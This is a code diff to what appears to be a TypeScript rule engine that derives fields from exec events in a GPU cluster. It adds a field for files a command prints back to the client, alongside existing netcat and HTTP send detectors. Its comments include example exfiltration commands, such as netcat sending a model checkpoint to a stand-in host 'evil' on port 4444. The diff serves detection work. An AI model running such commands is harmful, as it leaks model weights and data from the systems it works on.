@@ -37,6 +37,8 @@
  * (exec-http-destinations.ts);
  * `attrs.exec.netcatSends`: the netcat tools of commands not in zero-I/O mode (`nc evil 4444 <
  * /mnt/m.pt` gives `nc`, `nc -zv redis 6379` nothing; exec-netcat-sends.ts);
+ * `attrs.exec.printsFile`: the files the exec prints to its own output, which goes back to the
+ * client (`cat /mnt/ckpt/m.pt | gzip` gives `cat /mnt/ckpt/m.pt`; exec-client-output.ts);
  * `actorNamespace`: the namespace of a service-account actor (where its token belongs).
  * GPU-window rules use job, node, gpu, `duration` (seconds) and `<DCGM field>[.mean|.max|.min]`.
  */
@@ -249,6 +251,8 @@ const EXEC_TOOL_WORDS = 'exec.toolWords';
 const EXEC_HTTP_SENDS_TO = 'exec.httpSendsTo';
 /** netcat commands that may send: not in zero-I/O mode (exec-netcat-sends.ts). */
 const EXEC_NETCAT_SENDS = 'exec.netcatSends';
+/** The files the exec prints to its own output, back to the client (exec-client-output.ts). */
+const EXEC_PRINTS_FILE = 'exec.printsFile';
 
 /** Derived exec fields other than the lists, by their path below `attrs.`. */
 const EXEC_DERIVED: Readonly<Record<string, (e: EventRecord) => unknown>> = {
@@ -269,6 +273,7 @@ const EXEC_LIST_FIELDS: Readonly<Record<string, (e: EventRecord) => unknown>> = 
   [EXEC_TOOL_WORDS]: canonicalListField(EXEC_TOOL_WORDS, (c) => c.toolWords),
   [EXEC_HTTP_SENDS_TO]: canonicalListField(EXEC_HTTP_SENDS_TO, (c) => c.httpSendsTo),
   [EXEC_NETCAT_SENDS]: canonicalListField(EXEC_NETCAT_SENDS, (c) => c.netcatSends),
+  [EXEC_PRINTS_FILE]: canonicalListField(EXEC_PRINTS_FILE, (c) => c.printsFiles),
 };
 
 const TOP: Readonly<Record<string, (e: EventRecord) => unknown>> = {
